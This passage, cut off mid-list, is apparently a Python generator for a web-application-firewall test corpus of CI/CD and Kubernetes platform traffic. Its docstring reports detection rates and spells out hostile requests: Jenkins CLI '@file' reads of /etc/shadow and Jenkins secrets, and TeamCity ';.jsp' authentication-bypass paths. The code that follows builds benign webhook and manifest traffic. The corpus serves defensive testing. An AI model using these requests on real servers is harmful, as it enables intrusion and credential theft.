#!/usr/bin/env python3
"""Held-out WAF corpus: CI/CD and developer platforms running in Kubernetes.

Written blind (without reading the rules, the rule-set sources, the tests or
any other corpus). Stdlib only, deterministic.

    python3 scripts/corpus-devops.py attacks > rulesets/tests/data/devops-attacks.jsonl
    python3 scripts/corpus-devops.py benign  > rulesets/tests/data/devops-benign.jsonl

Benign traffic: GitHub/GitLab/Gitea webhooks, Jenkins build-with-parameters
forms, Argo CD Applications, Kubernetes manifests as JSON, npm publish, PyPI
upload multipart, Maven pom.xml PUT, OCI manifests, Vault/Consul KV writes,
Terraform state, Dependabot PR bodies, Trivy reports.  Sub-label
`dev-content` (~12 %, still expect pass) carries pipeline scripts
(Jenkinsfile sh steps, GitLab CI script lines with curl|bash, Dockerfile RUN
lines) - hard cases a WAF may reasonably flag.

Attacks: Jenkins script console Groovy, Jenkins CLI @file, TeamCity ;.jsp
bypass, Nexus EL injection, SSRF via registry remotes and Consul/Vault check
URLs, Helm/Argo chart-path traversal, SnakeYAML gadgets, XXE in pom.xml,
command injection in branch/ref names, Consul script checks, npm preinstall
curl|sh, SQLi in search APIs, stored XSS in repo descriptions/issue titles,
Log4Shell in headers, SSTI in notification templates, CRLF in redirects.

First sight (2026-12-05, palisade-rules at b211f55)
---------------------------------------------------
Counts: 246 attacks (rce 55, lfi 37, java 34, ssrf 32, sqli 20, xss 16,
ssti 16, xxe 12, crlf 12, generic 6, rfi 6; no protocol class), 250 benign
(220 ordinary + 30 dev-content = 12 %).

PL1 (threshold 5, built-in rules):
  attacks blocked   233/246 = 94.7 %  (crlf, java, rce, rfi, sqli, ssrf,
                    ssti, xss, xxe all 100 %; lfi 30/37; generic 0/6)
  benign blocked    28/220 = 12.7 % ordinary, 30/30 dev-content
                    (58/250 = 23.2 % overall)

After the class fixes of the same day (palisade-rules at the commit that adds
this corpus): attacks blocked 245/246 (let through: devops/generic/teamcity-
bypass/2, the `;.jsp` bypass carried in a query parameter); ordinary benign
blocked 12/220 (the Maven pom.xml uploads, java-110 on `org.apache.logging`
group ids); dev-content 30/30. PL2: 245/246 and 53/220.

Attacks passed at PL1 (13):
  lfi/jenkins-cli/1,3,5,7,9,11   POST /cli?remoting=false, octet-stream body
      "connect-node\n@<file>\n" for /etc/passwd, .../secrets/master.key,
      /proc/self/environ, .../credentials.xml, /etc/shadow,
      ../../../../etc/hosts - score 0, no match at all (likely an
      application/octet-stream body is not inspected; /etc/passwd in other
      bodies hits lfi-200)
  lfi/jenkins-cli/8              GET /cli?command=help&arg=%40/var/jenkins_home/credentials.xml
  generic/teamcity-bypass/1..6   /app/rest/users/id:1/tokens/RPC2;.jsp,
      /hax?jsp=/app/rest/users;.jsp, /app/rest/server;.jsp,
      /pluginAdmin/upload.html;.jsp, /app/rest/users/id:1/tokens;.jsp,
      /admin/admin.html;jsessionid=x;.jsp  score 0, no match

Ordinary benign blocked at PL1 (28):
  argocd-app/1..14   ssrf-111 BODY + ssrf-104 BODY:json.spec.destination.server
      on "https://kubernetes.default.svc" (the standard in-cluster
      destination of every Argo CD Application), score 10
  maven-pom/1..12    java-110 BODY on "org.springframework.b" (an ordinary
      <groupId>org.springframework.boot</groupId> dependency), score 5
  consul-kv/5,6      rfi-100 BODY:json.Check.HTTP on "http://10.42.x.y:" (a
      plain pod-IP HTTP health check in /v1/agent/service/register), score 5
      - every service registration in the set (2/2) is blocked

dev-content blocked 30/30: rce-101 (sh '...' steps after a newline), rce-122
(curl ... | bash / | python3 -), rce-102/121/140 (; sleep, bash -c, $(seq)),
rce-103/120, lfi-200 (/etc/passwd in a Dockerfile echo >>), lfi-201, lfi-322
(target BASENAME: the URI ends in /contents/Dockerfile).
"""
import json
import random
import sys
import urllib.parse

SEED = 20261205
SET = "devops"

UAS = [
    "GitHub-Hookshot/7a3c1f2",
    "GitLab/16.11.2",
    "Gitea/1.21.11",
    "Jenkins/2.440.3",
    "argocd-server/v2.10.7",
    "kubectl/v1.29.4 (linux/amd64) kubernetes/55019c8",
    "npm/10.5.0 node/v20.12.2 linux x64 workspaces/false",
    "twine/5.0.0 CPython/3.12.3",
    "Apache-Maven/3.9.6 (Java 17.0.10; Linux 6.5.0)",
    "containerd/v1.7.15",
    "Vault/1.16.1",
    "Consul/1.18.1",
    "Terraform/1.8.2",
    "dependabot-core/0.256.0",
    "Trivy/0.50.1",
    "curl/8.5.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
]

HOSTS = [
    "git.platform.svc.cluster.local", "gitlab.dev.example.com", "gitea.internal.example.org",
    "jenkins.ci.example.com", "argocd.example.com", "registry.example.com",
    "nexus.build.example.net", "vault.vault.svc:8200", "consul.service.consul:8500",
    "teamcity.example.com", "npm.internal.example.com", "pypi.internal.example.com",
]

REPOS = ["payments-api", "web-frontend", "infra-live", "helm-charts", "platform-tools",
         "auth-service", "data-pipeline", "mobile-backend", "docs-site", "ml-serving"]
ORGS = ["acme", "platform-team", "sre", "widgets-inc", "devex"]
USERS = ["alice", "bob-dev", "carol.ng", "dmitri", "eve-ops", "farah", "gus", "hana-k",
         "dependabot[bot]", "renovate[bot]", "github-actions[bot]"]
FILES = ["src/main.go", "cmd/server/main.go", "charts/app/values.yaml", "Dockerfile",
         "package.json", "package-lock.json", "pom.xml", "README.md", "docs/runbook.md",
         ".github/workflows/ci.yml", ".gitlab-ci.yml", "terraform/modules/vpc/main.tf",
         "src/app/routes/users.ts", "internal/db/migrations/0042_add_index.sql",
         "k8s/overlays/prod/kustomization.yaml", "scripts/release.sh", "Jenkinsfile",
         "src/components/Button.test.tsx", "requirements.txt", "go.sum"]
COMMIT_MSGS = [
    "Fix flaky integration test for order service",
    "Bump golang.org/x/net from 0.22.0 to 0.23.0",
    "feat(api): add pagination to /v2/projects endpoint",
    "chore: update helm chart version to 1.4.2",
    "Refactor config loader; drop deprecated env vars",
    "docs: explain how to rotate the database credentials",
    "fix(ci): cache node_modules between jobs",
    "Merge pull request #482 from acme/feature/retry-backoff",
    "Revert \"Enable HPA for worker deployment\"",
    "perf: avoid N+1 query when listing select options for users",
    "Add readiness probe and lower memory limit to 512Mi",
    "WIP: migrate from Docker Hub to internal registry",
    "build(deps): bump express from 4.18.2 to 4.19.2",
    "Handle empty response from upstream & log a warning",
    "tests: cover the case where the user's name contains an apostrophe",
    "Update runbook: on-call should check the 'where' clause in slow queries",
    "Increase timeout to 30s for the update step (was 10s)",
    "Remove unused import and tidy go.mod",
]
BRANCHES = ["main", "develop", "feature/retry-backoff", "fix/login-redirect", "release/2.8",
            "dependabot/npm_and_yarn/express-4.19.2", "renovate/helm-charts", "hotfix/cve-2024-3094",
            "feat/select-all-checkbox", "chore/update-deps"]


def sha(rng):
    return "".join(rng.choice("0123456789abcdef") for _ in range(40))


def digest(rng):
    return "sha256:" + "".join(rng.choice("0123456789abcdef") for _ in range(64))


class Builder:
    def __init__(self, kind):
        self.kind = kind
        self.rows = []
        self.counters = {}

    def add(self, category, sub, method, uri, body="", ctype=None, host=None, ua=None,
            extra=None, rng=None):
        n = self.counters.get((category, sub), 0) + 1
        self.counters[(category, sub)] = n
        if category == "benign":
            rid = "%s/benign/%s/%d" % (SET, sub, n)
            expect = "pass"
        else:
            rid = "%s/%s/%s/%d" % (SET, category, sub, n)
            expect = "detect"
        headers = [["Host", host or rng.choice(HOSTS)], ["User-Agent", ua or rng.choice(UAS)]]
        if extra:
            headers.extend(extra)
        if body or method in ("POST", "PUT", "PATCH"):
            headers.append(["Content-Type", ctype or "application/json"])
            headers.append(["Content-Length", str(len(body.encode("utf-8")))])
        self.rows.append({
            "id": rid, "set": SET, "category": category, "expect": expect,
            "method": method, "uri": uri, "version": "HTTP/1.1",
            "headers": headers, "body": body,
        })


def js(o):
    return json.dumps(o, separators=(",", ":"))


def form(d):
    return urllib.parse.urlencode(d)


# --------------------------------------------------------------------------- benign

def gh_commit(rng, msg=None):
    added = rng.sample(FILES, rng.randint(0, 2))
    modified = rng.sample(FILES, rng.randint(1, 4))
    return {
        "id": sha(rng), "tree_id": sha(rng), "distinct": True,
        "message": msg or rng.choice(COMMIT_MSGS),
        "timestamp": "2024-%02d-%02dT%02d:%02d:11Z" % (rng.randint(1, 12), rng.randint(1, 28),
                                                       rng.randint(0, 23), rng.randint(0, 59)),
        "url": "https://github.com/acme/%s/commit/%s" % (rng.choice(REPOS), sha(rng)),
        "author": {"name": rng.choice(USERS), "email": "dev%d@example.com" % rng.randint(1, 99)},
        "added": added, "removed": [], "modified": modified,
    }


def benign(b, rng):
    # GitHub push webhooks
    for _ in range(18):
        repo, org = rng.choice(REPOS), rng.choice(ORGS)
        br = rng.choice(BRANCHES)
        body = js({
            "ref": "refs/heads/" + br, "before": sha(rng), "after": sha(rng),
            "repository": {"id": rng.randint(10**7, 10**9), "name": repo,
                           "full_name": "%s/%s" % (org, repo), "private": True,
                           "default_branch": "main",
                           "description": rng.choice(["Payments API (Go)", "Where we keep the Helm charts",
                                                      "Select, update & deploy tooling", ""])},
            "pusher": {"name": rng.choice(USERS)},
            "commits": [gh_commit(rng) for _ in range(rng.randint(1, 3))],
            "head_commit": gh_commit(rng),
        })
        b.add("benign", "github-push", "POST", "/hooks/github", body, host="jenkins.ci.example.com",
              ua="GitHub-Hookshot/7a3c1f2",
              extra=[["X-GitHub-Event", "push"], ["X-GitHub-Delivery", "%08x-1f2e-11ef-8a3b-0242ac120002" % rng.randint(0, 2**32)],
                     ["X-Hub-Signature-256", "sha256=" + sha(rng) + sha(rng)[:24]]], rng=rng)
    # GitHub pull request
    pr_titles = ["Add retry with exponential backoff to webhook sender",
                 "Fix: drop table name from error message",
                 "Update README with <details> usage example",
                 "Use `SELECT ... FOR UPDATE` in the allocator",
                 "Upgrade to Node 20 and fix the 'unknown option' warning",
                 "chore(deps): bump actions/checkout from 3 to 4"]
    for _ in range(16):
        repo, org = rng.choice(REPOS), rng.choice(ORGS)
        body = js({
            "action": rng.choice(["opened", "synchronize", "closed", "reopened"]),
            "number": rng.randint(1, 3000),
            "pull_request": {
                "title": rng.choice(pr_titles),
                "body": rng.choice([
                    "This PR changes the allocator to lock rows while updating.\n\n- [x] tests\n- [ ] docs",
                    "Closes #%d. Tested locally with `make test`." % rng.randint(1, 999),
                    "## Summary\nSwitches the deploy job to use the internal registry.\n\n## Checklist\n* added unit tests",
                    "",
                ]),
                "head": {"ref": rng.choice(BRANCHES), "sha": sha(rng)},
                "base": {"ref": "main", "sha": sha(rng)},
                "user": {"login": rng.choice(USERS)},
                "draft": rng.random() < 0.2, "additions": rng.randint(1, 900), "deletions": rng.randint(0, 400),
                "changed_files": rng.randint(1, 30),
            },
            "repository": {"full_name": "%s/%s" % (org, repo)},
        })
        b.add("benign", "github-pr", "POST", "/github-webhook/", body, host="jenkins.ci.example.com",
              ua="GitHub-Hookshot/7a3c1f2", extra=[["X-GitHub-Event", "pull_request"]], rng=rng)
    # GitLab push / MR
    for _ in range(14):
        repo = rng.choice(REPOS)
        kind = rng.choice(["Push Hook", "Merge Request Hook"])
        if kind == "Push Hook":
            body = js({"object_kind": "push", "ref": "refs/heads/" + rng.choice(BRANCHES),
                       "checkout_sha": sha(rng), "user_username": rng.choice(USERS),
                       "project": {"path_with_namespace": "group/%s" % repo,
                                   "web_url": "https://gitlab.dev.example.com/group/%s" % repo},
                       "commits": [{"id": sha(rng), "message": rng.choice(COMMIT_MSGS) + "\n",
                                    "added": rng.sample(FILES, 1), "modified": rng.sample(FILES, 2),
                                    "removed": []} for _ in range(rng.randint(1, 3))],
                       "total_commits_count": rng.randint(1, 3)})
        else:
            body = js({"object_kind": "merge_request", "user": {"username": rng.choice(USERS)},
                       "object_attributes": {"iid": rng.randint(1, 900), "title": rng.choice(pr_titles),
                                             "source_branch": rng.choice(BRANCHES), "target_branch": "main",
                                             "state": "opened", "action": "open",
                                             "description": "Updates `values.yaml` and the deploy stage."}})
        b.add("benign", "gitlab-webhook", "POST", "/project/%s" % repo, body, host="jenkins.ci.example.com",
              ua="GitLab/16.11.2", extra=[["X-Gitlab-Event", kind], ["X-Gitlab-Token", "whk_%d" % rng.randint(10**5, 10**6)]], rng=rng)
    # Gitea issue
    issue_titles = ["Login page returns 500 when username contains a quote",
                    "Docs: the <code> block in CONTRIBUTING renders wrong",
                    "Pipeline fails on step 'select runner' after upgrade",
                    "Feature request: allow ${VAR} expansion in webhook URLs",
                    "Memory leak in worker after 2 days",
                    "Question: how to drop old artifacts from the registry?"]
    for _ in range(12):
        body = js({"action": rng.choice(["opened", "edited", "closed"]),
                   "number": rng.randint(1, 500),
                   "issue": {"title": rng.choice(issue_titles),
                             "body": rng.choice(["Steps to reproduce:\n1. open /user/login\n2. type O'Brien\n3. submit",
                                                 "Seen in prod since 1.21.10. Logs attached.",
                                                 "Would be great to have this & the related option documented."]),
                             "labels": [{"name": rng.choice(["bug", "enhancement", "docs", "question"])}],
                             "user": {"login": rng.choice(USERS)}},
                   "repository": {"full_name": "%s/%s" % (rng.choice(ORGS), rng.choice(REPOS))}})
        b.add("benign", "gitea-issue", "POST", "/api/webhooks/gitea", body, host="argocd.example.com",
              ua="Gitea/1.21.11", extra=[["X-Gitea-Event", "issues"]], rng=rng)
    # Jenkins build with parameters
    for _ in range(16):
        job = rng.choice(REPOS)
        params = {"BRANCH": rng.choice(BRANCHES), "ENVIRONMENT": rng.choice(["dev", "staging", "prod"]),
                  "IMAGE_TAG": "v%d.%d.%d" % (rng.randint(0, 3), rng.randint(0, 20), rng.randint(0, 9)),
                  "RUN_TESTS": rng.choice(["true", "false"]),
                  "EXTRA_ARGS": rng.choice(["--set replicaCount=3", "--atomic --timeout 5m", "", "-v"]),
                  "Jenkins-Crumb": sha(rng)}
        uri = "/job/%s/buildWithParameters" % job
        if rng.random() < 0.5:
            b.add("benign", "jenkins-build", "POST", uri, form(params),
                  ctype="application/x-www-form-urlencoded", host="jenkins.ci.example.com",
                  ua=rng.choice(UAS[-2:]), rng=rng)
        else:
            b.add("benign", "jenkins-build", "POST", uri + "?" + form(params), "",
                  ctype="application/x-www-form-urlencoded", host="jenkins.ci.example.com",
                  ua="curl/8.5.0", rng=rng)
    # Argo CD Application
    for _ in range(14):
        app = rng.choice(REPOS)
        body = js({"apiVersion": "argoproj.io/v1alpha1", "kind": "Application",
                   "metadata": {"name": app, "namespace": "argocd",
                                "finalizers": ["resources-finalizer.argocd.argoproj.io"]},
                   "spec": {"project": "default",
                            "source": {"repoURL": "https://github.com/%s/%s.git" % (rng.choice(ORGS), app),
                                       "targetRevision": rng.choice(["HEAD", "main", "v1.4.2"]),
                                       "path": rng.choice(["k8s/overlays/prod", "charts/%s" % app, "deploy"]),
                                       "helm": {"valueFiles": ["values.yaml", "values-prod.yaml"]}},
                            "destination": {"server": "https://kubernetes.default.svc",
                                            "namespace": app},
                            "syncPolicy": {"automated": {"prune": True, "selfHeal": True},
                                           "syncOptions": ["CreateNamespace=true"]}}})
        b.add("benign", "argocd-app", rng.choice(["POST", "PUT"]),
              "/api/v1/applications" + ("" if rng.random() < 0.5 else "/" + app + "?validate=true"),
              body, host="argocd.example.com", ua="argocd-server/v2.10.7",
              extra=[["Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhZG1pbiJ9.%s" % sha(rng)[:32]]], rng=rng)
    # Kubernetes manifests
    for _ in range(16):
        app = rng.choice(REPOS)
        body = js({"apiVersion": "apps/v1", "kind": "Deployment",
                   "metadata": {"name": app, "namespace": "prod", "labels": {"app": app}},
                   "spec": {"replicas": rng.randint(1, 6), "selector": {"matchLabels": {"app": app}},
                            "template": {"metadata": {"labels": {"app": app}},
                                         "spec": {"containers": [{
                                             "name": app, "image": "registry.example.com/%s:%s" % (app, sha(rng)[:7]),
                                             "args": ["--port=8080", "--log-level=info"],
                                             "env": [{"name": "DATABASE_URL", "valueFrom": {"secretKeyRef": {"name": "db", "key": "url"}}},
                                                     {"name": "JAVA_OPTS", "value": "-Xmx512m -XX:+UseG1GC"}],
                                             "readinessProbe": {"httpGet": {"path": "/healthz", "port": 8080}},
                                             "resources": {"limits": {"memory": "512Mi", "cpu": "500m"}}}]}}}})
        b.add("benign", "k8s-manifest", rng.choice(["POST", "PUT"]),
              "/apis/apps/v1/namespaces/prod/deployments" + rng.choice(["", "/" + app]) + "?fieldManager=kubectl-client-side-apply",
              body, host="kubernetes.default.svc", ua=UAS[5], rng=rng)
    # npm publish
    for _ in range(12):
        name = rng.choice(["@acme/ui-kit", "@devex/eslint-config", "lodash-internal", "@sre/pager"])
        ver = "%d.%d.%d" % (rng.randint(0, 4), rng.randint(0, 30), rng.randint(0, 9))
        body = js({"_id": name, "name": name, "description": "Shared components for internal apps",
                   "dist-tags": {"latest": ver},
                   "versions": {ver: {"name": name, "version": ver, "main": "dist/index.js",
                                      "scripts": {"build": "tsc -p .", "test": "jest --coverage", "lint": "eslint src"},
                                      "dependencies": {"react": "^18.2.0", "clsx": "^2.1.0"},
                                      "dist": {"shasum": sha(rng), "tarball": "https://npm.internal.example.com/%s/-/%s.tgz" % (name, ver)}}},
                   "_attachments": {"%s-%s.tgz" % (name.split("/")[-1], ver): {
                       "content_type": "application/octet-stream",
                       "data": "H4sIAAAAAAAAA+1YbW/bNhDu5/yKg4Bh" + sha(rng) + "AAA=", "length": rng.randint(2000, 90000)}}})
        b.add("benign", "npm-publish", "PUT", "/" + urllib.parse.quote(name, safe="@"), body,
              host="npm.internal.example.com", ua=UAS[6],
              extra=[["Authorization", "Bearer npm_%s" % sha(rng)[:36]], ["npm-command", "publish"]], rng=rng)
    # PyPI upload multipart
    for _ in range(12):
        bd = "----------------%d" % rng.randint(10**12, 10**13)
        pkg = rng.choice(["acme-utils", "platform-cli", "dataops-sdk"])
        ver = "%d.%d.%d" % (rng.randint(0, 3), rng.randint(0, 20), rng.randint(0, 9))
        fields = [(":action", "file_upload"), ("protocol_version", "1"), ("metadata_version", "2.1"),
                  ("name", pkg), ("version", ver), ("filetype", "bdist_wheel"), ("pyversion", "py3"),
                  ("summary", "Internal helpers for the platform team"),
                  ("description", "# %s\n\nInstall with `pip install %s` and run `%s --help`." % (pkg, pkg, pkg)),
                  ("description_content_type", "text/markdown"),
                  ("requires_python", ">=3.9"), ("sha256_digest", sha(rng) + sha(rng)[:24])]
        parts = []
        for k, v in fields:
            parts.append("--%s\r\nContent-Disposition: form-data; name=\"%s\"\r\n\r\n%s\r\n" % (bd, k, v))
        parts.append("--%s\r\nContent-Disposition: form-data; name=\"content\"; filename=\"%s-%s-py3-none-any.whl\"\r\n"
                     "Content-Type: application/octet-stream\r\n\r\nPK\x03\x04binarywheeldata%s\r\n" % (bd, pkg.replace("-", "_"), ver, sha(rng)))
        parts.append("--%s--\r\n" % bd)
        b.add("benign", "pypi-upload", "POST", "/legacy/", "".join(parts),
              ctype="multipart/form-data; boundary=" + bd, host="pypi.internal.example.com", ua=UAS[7],
              extra=[["Authorization", "Basic X190b2tlbl9fOnB5cGktQWdFSWNIbDU="]], rng=rng)
    # Maven pom PUT
    for _ in range(12):
        gid = rng.choice(["com.acme.platform", "org.example.tools", "io.widgets"])
        aid = rng.choice(["core", "client", "payments-api", "commons-config"])
        ver = "%d.%d.%d" % (rng.randint(1, 5), rng.randint(0, 20), rng.randint(0, 9))
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n'
                '<project xmlns="http://maven.apache.org/POM/4.0.0" '
                'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                'xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">\n'
                '  <modelVersion>4.0.0</modelVersion>\n'
                '  <groupId>%s</groupId>\n  <artifactId>%s</artifactId>\n  <version>%s</version>\n'
                '  <packaging>jar</packaging>\n'
                '  <properties><java.version>17</java.version><project.build.sourceEncoding>UTF-8</project.build.sourceEncoding></properties>\n'
                '  <dependencies>\n    <dependency>\n      <groupId>org.springframework.boot</groupId>\n'
                '      <artifactId>spring-boot-starter-web</artifactId>\n      <version>${spring.version}</version>\n'
                '    </dependency>\n    <dependency><groupId>org.apache.logging.log4j</groupId><artifactId>log4j-core</artifactId><version>2.23.1</version></dependency>\n'
                '  </dependencies>\n</project>\n') % (gid, aid, ver)
        uri = "/repository/maven-releases/%s/%s/%s/%s-%s.pom" % (gid.replace(".", "/"), aid, ver, aid, ver)
        b.add("benign", "maven-pom", "PUT", uri, body, ctype="application/xml",
              host="nexus.build.example.net", ua=UAS[8], rng=rng)
    # OCI manifests
    for _ in range(12):
        repo = rng.choice(REPOS)
        body = js({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                   "config": {"mediaType": "application/vnd.oci.image.config.v1+json", "digest": digest(rng), "size": rng.randint(1000, 9000)},
                   "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "digest": digest(rng),
                               "size": rng.randint(10**5, 10**8)} for _ in range(rng.randint(1, 5))],
                   "annotations": {"org.opencontainers.image.source": "https://github.com/acme/%s" % repo,
                                   "org.opencontainers.image.revision": sha(rng),
                                   "org.opencontainers.image.created": "2024-05-01T10:00:00Z"}})
        b.add("benign", "oci-manifest", "PUT", "/v2/acme/%s/manifests/%s" % (repo, rng.choice(["latest", "v1.2.3", "sha-" + sha(rng)[:7]])),
              body, ctype="application/vnd.oci.image.manifest.v1+json", host="registry.example.com",
              ua=UAS[9], rng=rng)
    # Vault KV
    for _ in range(12):
        path = rng.choice(["apps/payments/db", "ci/jenkins/github-token", "platform/argocd/oidc", "teams/sre/pagerduty"])
        body = js({"data": {"username": rng.choice(["svc_payments", "jenkins", "argocd"]),
                            "password": "".join(rng.choice("ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz23456789!#%-_") for _ in range(24)),
                            "url": "postgres://db.prod.svc:5432/payments?sslmode=require"},
                   "options": {"cas": rng.randint(0, 9)}})
        b.add("benign", "vault-kv", rng.choice(["POST", "PUT"]), "/v1/secret/data/" + path, body,
              host="vault.vault.svc:8200", ua=UAS[10], extra=[["X-Vault-Token", "hvs.%s" % sha(rng)[:24]]], rng=rng)
    # Consul KV + service registration
    for _ in range(12):
        if rng.random() < 0.6:
            key = rng.choice(["config/payments/feature_flags", "config/web/maintenance", "locks/deploy/prod"])
            body = js({"enable_new_checkout": rng.random() < 0.5, "rollout_percent": rng.randint(0, 100),
                       "message": "Scheduled maintenance on Sunday 02:00-04:00 UTC"})
            b.add("benign", "consul-kv", "PUT", "/v1/kv/%s?cas=%d" % (key, rng.randint(0, 500)), body,
                  host="consul.service.consul:8500", ua=UAS[11], rng=rng)
        else:
            svc = rng.choice(REPOS)
            body = js({"ID": "%s-%d" % (svc, rng.randint(1, 9)), "Name": svc, "Tags": ["v2", "prod"],
                       "Address": "10.42.%d.%d" % (rng.randint(0, 255), rng.randint(1, 254)), "Port": 8080,
                       "Check": {"HTTP": "http://10.42.%d.%d:8080/healthz" % (rng.randint(0, 255), rng.randint(1, 254)),
                                 "Interval": "10s", "Timeout": "2s"}})
            b.add("benign", "consul-kv", "PUT", "/v1/agent/service/register", body,
                  host="consul.service.consul:8500", ua=UAS[11], rng=rng)
    # Terraform state
    for _ in range(10):
        body = js({"version": 4, "terraform_version": "1.8.2", "serial": rng.randint(1, 900),
                   "lineage": "%s-%s" % (sha(rng)[:8], sha(rng)[:12]),
                   "outputs": {"cluster_endpoint": {"value": "https://%s.gr7.eu-west-1.eks.amazonaws.com" % sha(rng)[:16].upper(), "type": "string"}},
                   "resources": [{"mode": "managed", "type": "aws_s3_bucket", "name": "artifacts",
                                  "provider": "provider[\"registry.terraform.io/hashicorp/aws\"]",
                                  "instances": [{"schema_version": 0, "attributes": {"bucket": "acme-ci-artifacts", "arn": "arn:aws:s3:::acme-ci-artifacts"}}]},
                                 {"mode": "managed", "type": "aws_iam_role", "name": "ci",
                                  "instances": [{"attributes": {"name": "ci-runner",
                                                                "assume_role_policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Principal\":{\"Service\":\"ec2.amazonaws.com\"},\"Action\":\"sts:AssumeRole\"}]}"}}]}]})
        b.add("benign", "tf-state", "POST", "/api/v4/projects/%d/terraform/state/prod?ID=%s" % (rng.randint(1, 900), sha(rng)[:8]),
              body, host="gitlab.dev.example.com", ua=UAS[12], rng=rng)
    # Dependabot PR bodies
    for _ in range(10):
        dep, old, new = rng.choice([("express", "4.18.2", "4.19.2"), ("golang.org/x/net", "0.22.0", "0.23.0"),
                                    ("org.yaml:snakeyaml", "1.33", "2.2"), ("jinja2", "3.1.3", "3.1.4")])
        text = ("Bumps [%s](https://github.com/%s) from %s to %s.\n<details>\n<summary>Release notes</summary>\n"
                "<p><em>Sourced from <a href=\"https://github.com/%s/releases\">%s's releases</a>.</em></p>\n"
                "<blockquote>\n<h2>%s</h2>\n<ul>\n<li>Fix path handling when the URL contains <code>..</code> segments</li>\n"
                "<li>Security: bound the size of decoded input</li>\n</ul>\n</blockquote>\n</details>\n\n"
                "[![Dependabot compatibility score](https://dependabot-badges.githubapp.com/badges/compatibility_score?dependency-name=%s&package-manager=npm_and_yarn&previous-version=%s&new-version=%s)](https://docs.github.com/en/github/managing-security-vulnerabilities/about-dependabot-security-updates#about-compatibility-scores)\n\n"
                "You can trigger a rebase of this PR by commenting `@dependabot rebase`.") % (dep, dep, old, new, dep, dep, new, dep, old, new)
        body = js({"title": "Bump %s from %s to %s" % (dep, old, new), "head": "dependabot/%s-%s" % (dep.replace("/", "-"), new),
                   "base": "main", "body": text})
        b.add("benign", "dependabot", "POST", "/repos/%s/%s/pulls" % (rng.choice(ORGS), rng.choice(REPOS)), body,
              host="api.github.com", ua=UAS[13], extra=[["Accept", "application/vnd.github+json"]], rng=rng)
    # Trivy reports
    for _ in range(10):
        body = js({"SchemaVersion": 2, "ArtifactName": "registry.example.com/%s:latest" % rng.choice(REPOS),
                   "ArtifactType": "container_image",
                   "Results": [{"Target": "usr/local/lib/python3.12/site-packages", "Class": "lang-pkgs", "Type": "python-pkg",
                                "Vulnerabilities": [{"VulnerabilityID": rng.choice(["CVE-2024-34064", "CVE-2023-45803", "GHSA-h5c8-rqwp-cp95"]),
                                                     "PkgName": rng.choice(["jinja2", "urllib3", "requests"]),
                                                     "InstalledVersion": "3.1.3", "FixedVersion": "3.1.4",
                                                     "Severity": rng.choice(["MEDIUM", "HIGH", "LOW"]),
                                                     "Title": "jinja2: accepts keys containing non-attribute characters",
                                                     "Description": "The xmlattr filter in affected versions of Jinja accepts keys containing non-attribute characters. XML/HTML attributes cannot contain spaces, /, >, or =, as each would then be interpreted as starting a separate attribute.",
                                                     "PrimaryURL": "https://avd.aquasec.com/nvd/cve-2024-34064"}]}]})
        b.add("benign", "trivy-report", "POST", "/api/v1/scans/upload", body, host="registry.example.com",
              ua=UAS[14], rng=rng)
    # Search / UI browsing GETs
    for _ in range(12):
        q = rng.choice(["payments api", "helm values", "fix login redirect", "select runner", "order by date",
                        "where is the deploy script", "CVE-2024-3094", "ns:prod kind:Deployment"])
        uri = rng.choice(["/api/v4/search?scope=projects&search=%s", "/api/v1/repos/search?q=%s&limit=20",
                          "/search?q=%s&type=code", "/api/v1/applications?search=%s"]) % urllib.parse.quote_plus(q)
        b.add("benign", "ui-search", "GET", uri, host=rng.choice(HOSTS), ua=rng.choice(UAS[-2:]),
              extra=[["Accept", "application/json"], ["Cookie", "_gitlab_session=%s" % sha(rng)[:32]]], rng=rng)

    # dev-content (~12 %)
    dev = [
        ("jenkinsfile", "text/plain", "/job/%s/pipeline-syntax/validate",
         "pipeline {\n  agent { kubernetes { yaml readTrustedFile('pod.yaml') } }\n  stages {\n    stage('Build') {\n      steps {\n        sh 'make build && docker build -t registry.example.com/app:${GIT_COMMIT} .'\n        sh \"helm upgrade --install app charts/app --set image.tag=${env.GIT_COMMIT}\"\n      }\n    }\n  }\n}\n"),
        ("jenkinsfile", "text/plain", "/job/%s/pipeline-syntax/validate",
         "node('linux') {\n  stage('Test') {\n    sh 'go test ./... -race -count=1'\n    sh 'cat coverage.out | grep -v _test.go > cov.txt'\n  }\n}\n"),
        ("gitlab-ci", "application/json", "/api/v4/projects/%s/ci/lint",
         js({"content": "stages: [test, deploy]\ntest:\n  image: python:3.12\n  script:\n    - curl -sSL https://install.python-poetry.org | python3 -\n    - poetry install\n    - poetry run pytest\ndeploy:\n  script:\n    - curl -fsSL https://get.helm.sh/helm-v3.14.4-linux-amd64.tar.gz | tar xz\n    - ./linux-amd64/helm upgrade --install app ./chart\n"})),
        ("gitlab-ci", "application/json", "/api/v4/projects/%s/ci/lint",
         js({"content": "before_script:\n  - apt-get update && apt-get install -y curl\n  - curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\n  - export PATH=$PATH:$(npm bin)\nbuild:\n  script: [\"npm ci\", \"npm run build\"]\n"})),
        ("dockerfile", "application/json", "/api/v1/repos/acme/%s/contents/Dockerfile",
         js({"message": "Update Dockerfile", "branch": "main", "content_text":
             "FROM alpine:3.19\nRUN apk add --no-cache curl bash && \\\n    curl -sL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash\nRUN adduser -D app && chown -R app /srv\nUSER app\nCMD [\"/bin/sh\", \"-c\", \"exec /srv/app --port=$PORT\"]\n"})),
        ("dockerfile", "application/json", "/api/v1/repos/acme/%s/contents/Dockerfile",
         js({"message": "Pin base image", "branch": "chore/update-deps", "content_text":
